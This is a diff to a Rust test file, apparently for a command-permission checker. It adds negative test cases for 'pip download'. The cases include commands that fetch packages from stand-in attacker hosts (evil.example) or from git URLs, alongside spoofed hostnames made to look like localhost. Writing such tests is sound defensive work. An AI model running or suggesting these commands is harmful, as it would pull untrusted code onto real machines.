@@ -123,6 +123,12 @@ fn a_download_from_an_index_on_this_machine_is_the_project_family() {
         "pip download -i http://localhost:8080/simple -i https://pypi.evil.example/simple x",
         "pip download -i http://localhost@evil.example/simple x",
         "pip download -i http://localhost.evil.example/simple x",
+        // A requirement fetched from an address of its own, beside the local index (found
+        // in review).
+        "pip download -i http://localhost:8080/simple/ https://evil.example/pkg.tar.gz",
+        "pip download -i http://localhost:8080/simple/ git+https://github.com/x/y",
+        "pip download -i http://localhost:8080/simple/ 'pkg @ https://evil.example/p.whl'",
+        "pip3 download --index-url=http://127.0.0.1:8080/simple -- https://evil.example/x.tgz",
         // Written outside the workspace and beyond a scratch folder under /tmp.
         "pip download -i http://localhost:8080/simple x -d ~/.config",
         "pip download -i http://localhost:8080/simple x -d /tmp/a/b",
